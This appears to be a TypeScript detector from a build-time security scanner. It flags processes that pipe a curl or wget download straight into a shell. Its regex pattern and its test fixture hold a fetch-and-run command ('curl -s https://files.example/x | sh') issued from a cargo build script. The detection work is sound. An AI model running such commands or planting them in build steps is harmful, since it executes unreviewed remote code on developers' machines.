import { printable } from '../../kit/untrusted-text.ts';
import { evidence } from '../../model/evidence.ts';
import { defineSignal } from '../define-signal.ts';

const PIPED =
  /\b(curl|wget)\b[^|;&]*\|\s*(\w+=\S+\s+|sudo\s+)*(\/\S*\/)?(ba|da|z|k)?sh\b|\b(ba|z)?sh\b\s+(-c\s+)?["']?(\$\(|<\()\s*(curl|wget)\b/;

/** Code that nobody has seen, run at once. */
export default defineSignal({
  id: 'download-piped-to-shell',
  status: 'stable',
  severity: 'critical',
  layer: 'dynamic',
  claim: 'It ran what it downloaded in a shell',
  references: [],
  needs: ['build', 'sensors'],
  exercises: true,
  kind: 'process-exec',
  when: ({ data }) => data.arguments.some((word) => PIPED.test(word)),
  say: ({ data }) => `It ran a download through a shell: ${printable(data.arguments.join(' '), 160)}`,
  examples: {
    raises: [
      [
        evidence(
          'process-exec',
          'story@1.0.0',
          { phase: 'build', process: ['cargo', 'build-script-build'] },
          {
            program: '/bin/sh',
            arguments: ['sh', '-c', 'curl -s https://files.example/x | sh'],
            directory: '/home/dev/src/app',
            result: 'ok',
            origin: 'image',
          },
        ),
      ],
    ],
    quiet: [
      [
        evidence(
          'process-exec',
          'story@1.0.0',
          { phase: 'build', process: ['cargo', 'build-script-build'] },
          {
            program: '/bin/sh',
            arguments: ['sh', '-c', 'curl --version | head -1'],
            directory: '/home/dev/src/app',
            result: 'ok',
            origin: 'image',
          },
        ),
      ],
    ],
  },
});
